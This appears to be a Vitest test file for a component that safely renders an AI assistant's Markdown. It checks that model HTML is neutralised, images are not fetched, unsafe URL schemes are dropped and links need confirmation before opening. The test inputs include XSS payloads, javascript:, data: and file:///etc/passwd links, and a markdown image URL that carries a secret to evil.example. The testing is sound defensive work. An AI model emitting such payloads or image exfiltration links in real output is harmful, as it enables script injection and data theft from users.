// @vitest-environment jsdom
import { afterEach, describe, expect, it } from 'vitest';
import { ok } from '../../shared/errors/index.ts';
import { renderOnDesk, type Screen } from '../test-support/render.tsx';
import { SafeMarkdown } from './markdown.tsx';

let screen: Screen;
afterEach(() => screen.close());

async function draw(text: string): Promise<HTMLElement> {
  screen = await renderOnDesk(<SafeMarkdown text={text} />, { 'shell.open_external': () => ok({ opened: true }) });
  return screen.container;
}

describe('the assistant’s Markdown', () => {
  it('is drawn: emphasis, lists, tables', async () => {
    const drawn = await draw('**23 failed**\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(drawn.querySelector('strong')?.textContent).toBe('23 failed');
    expect(drawn.querySelectorAll('li, td')).toHaveLength(3);
  });

  it('holds no HTML of the model', async () => {
    const drawn = await draw(
      '<img src=x onerror=alert(1)><script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>',
    );
    expect(drawn.querySelectorAll('img, script, iframe')).toHaveLength(0);
    expect(drawn.textContent).toContain('<script>');
  });

  it('fetches no image, however it is written', async () => {
    const drawn = await draw('![chart](https://evil.example/?q=secret)\n\n![ref][1]\n\n[1]: https://evil.example/2');
    expect(drawn.querySelectorAll('img, [src], [srcset], [style*=url]')).toHaveLength(0);
    expect(drawn.textContent).toContain('[image: chart]');
  });

  it('makes nothing of an address that is not https or mailto', async () => {
    const drawn = await draw(
      '[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) [d](//evil.example) [e](http://evil.example)',
    );
    expect(drawn.querySelectorAll('a, button')).toHaveLength(0);
    expect(drawn.textContent).toBe('a b c d e');
  });

  it('opens a link only after its whole address was shown', async () => {
    const drawn = await draw('[our report](https://reports.example/week?id=47)');
    expect(drawn.textContent).toContain('(https://reports.example/week?id=47)');
    expect(drawn.querySelector('a[href]')).toBeNull();
    await screen.click(screen.button('our report'));
    expect(screen.desk.calls).toEqual([]);
    expect(screen.text()).toContain('Site: reports.example');
    await screen.click(screen.button('Open'));
    expect(screen.desk.calls).toEqual([
      { name: 'shell.open_external', request: { url: 'https://reports.example/week?id=47' } },
    ]);
  });
});
